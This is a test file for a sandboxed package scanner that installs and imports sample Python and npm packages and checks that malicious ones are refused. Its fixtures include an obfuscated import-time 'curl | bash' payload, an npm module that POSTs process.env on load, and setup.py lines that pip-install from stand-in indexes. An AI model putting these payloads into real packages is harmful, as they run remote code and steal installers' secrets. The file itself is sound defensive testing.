/**
 * Observed phases: the dynamic scanner installs each package as a user would
 * (Python: a wheel built offline with the sandbox's build backends, then
 * installed; npm: `npm pack`, then the tarball installed), imports every
 * module it installed, with line coverage, on linux and as if on Windows
 * and macOS; the phase of every static finding then comes from what ran.
 * Each package is written at test time and goes through the real scan and
 * decide stages (bandit + dynamic: the SAST scanner that reports the
 * payload lines, and the observation) in the network-less sandbox.
 * Payloads point only at 127.0.0.1 or `.invalid` names.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync, readdirSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { before, describe, it } from 'node:test';
import { linesFromRanges } from '../src/scanners/dynamic-npm';
import { sandboxPython } from '../src/scanners/dynamic-observe';
import { applyObservation, emptyObservation } from '../src/scanners/observed';
import type { IFinding, IManifestItem } from '../src/types';
import { tempDir, useVenvScanners } from './helpers';

useVenvScanners();

interface IHarness {
  scannerEnvironment(): void;
  scanAndDecide(
    dir: string,
    options: { name: string; scanners?: string[]; keep?: boolean }
  ): Promise<{ item: IManifestItem; ms: number }>;
}
const CORPUS = path.resolve(__dirname, '..', '..', '..', '..', 'pipeline', 'corpus');
// eslint-disable-next-line @typescript-eslint/no-require-imports
const harness = require(path.join(CORPUS, 'harness.js')) as IHarness;

async function tree(files: Record<string, string>): Promise<string> {
  const dir = path.join(await tempDir('rg-observe-'), 'pkg');
  for (const [name, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, name)), { recursive: true });
    await writeFile(path.join(dir, name), content);
  }
  return dir;
}

async function scanned(
  name: string,
  files: Record<string, string>,
  scanners = ['bandit', 'dynamic']
): Promise<IManifestItem> {
  const { item } = await harness.scanAndDecide(await tree(files), { name, scanners });
  return item;
}

function findings(item: IManifestItem, scanner?: string): IFinding[] {
  return (item.scanners ?? []).filter(r => !scanner || r.name === scanner).flatMap(r => r.findings);
}

function dynamicRun(item: IManifestItem) {
  const run = item.scanners?.find(r => r.name === 'dynamic');
  assert.ok(run, 'dynamic ran');
  return run;
}

const SETUP = (name: string, extra = '') =>
  [
    'import os',
    'import sys',
    'from setuptools import setup',
    extra,
    `setup(name="${name}", version="1.0", packages=["${name}"])`,
    ''
  ].join('\n');

describe('observed phases (real pip / npm, coverage, sandbox)', () => {
  before(() => harness.scannerEnvironment());

  it('a payload in a function called at import is observed at import, and refused', async () => {
    const item = await scanned('initcall', {
      'setup.py': SETUP('initcall'),
      'initcall/__init__.py': [
        'import os',
        'import base64',
        '',
        '',
        'def _init():',
        '    os.system(base64.b64decode("ZWNobyBjdXJsIGh0dHA6Ly9leGFtcGxlLmludmFsaWQvcCB8IGJhc2g=").decode())',
        '',
        '',
        '_init()',
        ''
      ].join('\n')
    });
    assert.equal(dynamicRun(item).status, 'ok', dynamicRun(item).message);
    const shell = findings(item, 'bandit').find(f => f.ruleId === 'B605');
    assert.ok(shell, JSON.stringify(findings(item).map(f => [f.ruleId, f.line])));
    assert.equal(shell.phase, 'import', 'the function body ran when the module was imported');
    assert.equal(shell.observed, true);
    // The shell it started is seen too, at import.
    assert.ok(
      findings(item, 'dynamic').some(f => f.ruleId === 'dynamic/shell' && f.phase === 'import'),
      JSON.stringify(findings(item, 'dynamic').map(f => [f.ruleId, f.phase]))
    );
    assert.equal(item.decision, 'refused', item.reason);
  });

  it('a payload only in a function never called is phase call', async () => {
    const item = await scanned('lazycall', {
      'setup.py': SETUP('lazycall'),
      'lazycall/__init__.py': [
        'import os',
        '',
        '',
        'def run(cmd):',
        '    os.system(cmd)',
        '',
        '',
        'VERSION = "1.0"',
        ''
      ].join('\n')
    });
    assert.equal(dynamicRun(item).status, 'ok', dynamicRun(item).message);
    const shell = findings(item, 'bandit').find(f => f.ruleId === 'B605');
    assert.ok(shell);
    assert.equal(shell.phase, 'call');
    assert.equal(shell.observed, true);
    assert.ok(!findings(item, 'dynamic').some(f => f.ruleId === 'dynamic/shell'));
  });

  it("setup.py that exec()s its version file builds under the trace (exec runs in its caller's namespace)", async () => {
    // h11, frozenlist and propcache do this; the trace's exec wrapper once ran
    // the code in its own frame, so __version__ was never defined (build-failed, high).
    const item = await scanned('versioned', {
      'setup.py': [
        'from setuptools import setup',
        'exec(open("versioned/_version.py").read())',
        '',
        '',
        'def _cmd():',
        '    return __version__',
        '',
        '',
        'setup(name="versioned", version=_cmd(), packages=["versioned"])',
        ''
      ].join('\n'),
      'versioned/_version.py': '__version__ = "1.2.3"\n',
      'versioned/__init__.py': 'from ._version import __version__\n'
    });
    assert.equal(dynamicRun(item).status, 'ok', dynamicRun(item).message);
    assert.deepEqual(
      findings(item, 'dynamic').map(f => f.ruleId),
      [],
      findings(item, 'dynamic')
        .map(f => f.message)
        .join('; ')
    );
    assert.equal(item.decision, 'approved', item.reason);
  });

  it('a sys.platform == "win32" gated pip call in setup.py shows up under the Windows emulation', async () => {
    const item = await scanned('wingated', {
      'setup.py': SETUP(
        'wingated',
        'if sys.platform == "win32":\n    os.system("pip install wingated-helper --index-url http://127.0.0.1:9/simple")\n'
      ),
      'wingated/__init__.py': 'VALUE = 1\n'
    });
    assert.equal(dynamicRun(item).status, 'ok', dynamicRun(item).message);
    const dyn = findings(item, 'dynamic');
    const install = dyn.filter(f => f.ruleId === 'dynamic/package-install');
    assert.ok(install.length > 0, JSON.stringify(dyn.map(f => [f.ruleId, f.message])));
    assert.ok(
      install.every(f => /\(as win32\)/.test(f.message) && f.phase === 'install'),
      JSON.stringify(install.map(f => f.message))
    );
    // The static finding on that line ran only as win32.
    const shell = findings(item, 'bandit').find(f => f.ruleId === 'B605');
    assert.ok(shell);
    assert.equal(shell.phase, 'install');
    assert.equal(shell.platform, 'win32');
    assert.equal(item.decision, 'refused', item.reason);
  });

  it('an npm index.js that posts process.env from a function called when it loads is observed at import', async () => {
    const item = await scanned(
      'envpost',
      {
        'package.json': JSON.stringify({
          name: 'envpost',
          version: '1.0.0',
          main: 'index.js',
          dependencies: { 'left-pad': '^1.3.0' }
        }),
        'index.js': [
          "const http = require('http');",
          "const pad = require('left-pad');",
          '',
          'function report() {',
          "  const req = http.request({ host: '127.0.0.1', port: 9, method: 'POST', path: '/' });",
          "  req.on('error', () => {});",
          '  req.end(JSON.stringify(process.env));',
          '}',
          '',
          'function unused() {',
          "  return require('child_process').execSync('id');",
          '}',
          '',
          'report();',
          'module.exports = { pad, unused };',
          ''
        ].join('\n')
      },
      ['dynamic']
    );
    assert.equal(dynamicRun(item).status, 'ok', dynamicRun(item).message);
    const net = findings(item, 'dynamic').filter(f => f.ruleId === 'dynamic/network');
    assert.ok(net.length > 0, JSON.stringify(findings(item).map(f => [f.ruleId, f.phase])));
    assert.ok(net.some(f => f.phase === 'import' && /127\.0\.0\.1:9/.test(f.snippet ?? '')));
    assert.ok(!net.some(f => f.phase === 'install'), 'nothing ran at install');
    assert.equal(item.decision, 'refused', item.reason);
  });

  it('a package needing hatchling builds offline, and its modules are imported', async () => {
    const item = await scanned('hatched', {
      'pyproject.toml': [
        '[build-system]',
        'requires = ["hatchling"]',
        'build-backend = "hatchling.build"',
        '',
        '[project]',
        'name = "hatched"',
        'version = "1.0"',
        ''
      ].join('\n'),
      'src/hatched/__init__.py':
        'import os\n\n\ndef where():\n    return os.getcwd()\n\n\nHOME = where()\n',
      'tests/test_hatched.py': 'import os\n\n\ndef test_x():\n    os.system("true")\n'
    });
    const run = dynamicRun(item);
    assert.equal(run.status, 'ok', run.message);
    assert.ok(!run.findings.some(f => f.ruleId === 'dynamic/build-failed'));
    assert.equal(item.decision, 'approved', item.reason);
    // tests/ is not in the wheel: its findings are observed as not installed.
    const testShell = findings(item, 'bandit').find(f => f.path === 'tests/test_hatched.py');
    assert.ok(testShell, JSON.stringify(findings(item).map(f => [f.ruleId, f.path])));
    assert.equal(testShell.phase, 'not-installed');
    assert.equal(testShell.observed, true);
  });

  it('a package whose build backend the sandbox lacks is error, not approved', async () => {
    const item = await scanned('nobackend', {
      'pyproject.toml': [
        '[build-system]',
        'requires = ["repoguard-absent-backend>=1"]',
        'build-backend = "repoguard_absent_backend"',
        '',
        '[project]',
        'name = "nobackend"',
        'version = "1.0"',
        ''
      ].join('\n'),
      'nobackend/__init__.py': 'VALUE = 1\n'
    });
    const run = dynamicRun(item);
    assert.equal(run.status, 'missing');
    assert.match(run.message ?? '', /repoguard-absent-backend/);
    // It tried the index (the tests' loopback one, which refuses) and says so.
    assert.match(run.message ?? '', /from the index failed/);
    assert.equal(item.decision, 'error', item.reason);
  });

  it('a C extension whose native header the sandbox lacks: observed until the compiler stops, its setup.py behaviour still counts', async () => {
    const files = (extra: string) => ({
      'setup.py': [
        'import os',
        'from setuptools import Extension, setup',
        extra,
        'setup(name="cext", version="1.0", packages=["cext"],',
        '      ext_modules=[Extension("cext._speedups", ["cext/_speedups.c"])])',
        ''
      ].join('\n'),
      'cext/__init__.py': 'VALUE = 1\n',
      'cext/_speedups.c': '#include <repoguard_absent_native_lib.h>\nint f(void) { return 1; }\n'
    });
    const plain = await scanned('cext', files(''));
    const run = dynamicRun(plain);
    assert.equal(run.status, 'ok', run.message);
    const partial = run.findings.find(f => f.ruleId === 'dynamic/partial-observation');
    assert.ok(partial, JSON.stringify(run.findings.map(f => f.ruleId)));
    assert.equal(partial.severity, 'low');
    assert.match(partial.message, /repoguard_absent_native_lib\.h|gcc|cc/);
    assert.equal(plain.decision, 'approved', plain.reason);
    // The same build with a payload in setup.py: it ran before the compiler, and is refused.
    const payload = await scanned(
      'cextpayload',
      files(
        'os.system("pip install repoguard-payload-package --index-url http://pkgs.invalid/simple")'
      )
    );
    assert.ok(
      findings(payload, 'dynamic').some(f => f.ruleId === 'dynamic/package-install'),
      JSON.stringify(findings(payload, 'dynamic').map(f => f.ruleId))
    );
    assert.equal(payload.decision, 'refused', payload.reason);
  });

  it('a build requirement the sandbox lacks is fetched from the index as a wheel, and the build is observed (loopback index)', async () => {
    // A wheel of `rg-build-helper`, built here, served by a PEP 503 index on 127.0.0.1.
    const helperSrc = await tree({
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n' +
        '[project]\nname = "rg-build-helper"\nversion = "1.2"\n',
      'rg_build_helper/__init__.py': 'def version():\n    return "3.4"\n'
    });
    const wheels = await tempDir('rg-index-');
    const venv = sandboxPython();
    assert.ok(venv, 'the sandbox Python toolchain is installed');
    execFileSync(
      path.join(venv, 'bin', 'python'),
      [
        '-m',
        'pip',
        'wheel',
        '-q',
        '--no-deps',
        '--no-build-isolation',
        '--no-index',
        '-w',
        wheels,
        helperSrc
      ],
      { stdio: 'pipe' }
    );
    const wheel = readdirSync(wheels).find(f => f.endsWith('.whl'))!;
    const asked: string[] = [];
    const server = createServer((req, res) => {
      asked.push(req.url ?? '');
      if (req.url === '/simple/rg-build-helper/') {
        res.setHeader('content-type', 'text/html');
        res.end(`<html><body><a href="/files/${wheel}">${wheel}</a></body></html>`);
      } else if (req.url === `/files/${wheel}`) {
        res.end(readFileSync(path.join(wheels, wheel)));
      } else {
        res.statusCode = 404;
        res.end();
      }
    });
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
    const saved = [process.env.REPOGUARD_BUILD_REQUIREMENTS_INDEX, process.env.REPOGUARD_CACHE];
    process.env.REPOGUARD_BUILD_REQUIREMENTS_INDEX = `http://127.0.0.1:${(server.address() as AddressInfo).port}/simple/`;
    process.env.REPOGUARD_CACHE = await tempDir('rg-cache-');
    try {
      const item = await scanned('needshelper', {
        'pyproject.toml':
          '[build-system]\nrequires = ["setuptools>=61", "rg-build-helper>=1"]\n' +
          'build-backend = "setuptools.build_meta"\n',
        'setup.py': [
          'import rg_build_helper',
          'from setuptools import setup',
          'setup(name="needshelper", version=rg_build_helper.version(), packages=["needshelper"])',
          ''
        ].join('\n'),
        'needshelper/__init__.py': 'VALUE = 1\n'
      });
      const run = dynamicRun(item);
      // setup.py imports the helper: without it the build fails ("No module named").
      assert.equal(run.status, 'ok', run.message);
      assert.ok(
        !run.findings.some(f => f.ruleId === 'dynamic/build-failed'),
        JSON.stringify(run.findings)
      );
      assert.equal(item.decision, 'approved', item.reason);
      assert.ok(asked.includes('/simple/rg-build-helper/'), asked.join(' '));
    } finally {
      server.close();
      [process.env.REPOGUARD_BUILD_REQUIREMENTS_INDEX, process.env.REPOGUARD_CACHE] = saved;
      if (saved[1] === undefined) delete process.env.REPOGUARD_CACHE;
    }
  });
});

describe('observation units', () => {
  it('V8 block ranges: an uncalled function body did not run', () => {
    const src = 'function a() {\n  return 1;\n}\nfunction b() {\n  return 2;\n}\na();\n';
    const b = src.indexOf('function b');
    const lines = linesFromRanges(src, [
      { startOffset: 0, endOffset: src.length, count: 1 },
      { startOffset: 0, endOffset: src.indexOf('}') + 1, count: 1 },
      { startOffset: b, endOffset: src.indexOf('}', b) + 1, count: 0 }
    ]);
    assert.deepEqual(lines, [1, 2, 3, 7]);
  });

  it('without an observation the heuristic phase stays, marked observed:false', () => {
    const f: IFinding = {
      scanner: 'bandit',
      ruleId: 'B605',
      severity: 'high',
      effectiveSeverity: 'high',
      confidence: 'high',
      message: 'shell',
      path: 'pkg/mod.py',
      line: 5,
      category: 'sast',
      phase: 'call'
    };
    assert.deepEqual(applyObservation([f], null), [{ ...f, observed: false }]);
    const observation = emptyObservation();
    observation.ecosystems = ['python'];
    observation.files['pkg/mod.py'] = { installed: true, install: [], import: [1, 5] };
    assert.equal(applyObservation([f], observation)[0].phase, 'import');
    assert.equal(
      applyObservation([{ ...f, path: 'docs/conf.py' }], observation)[0].phase,
      'not-installed'
    );
  });
});
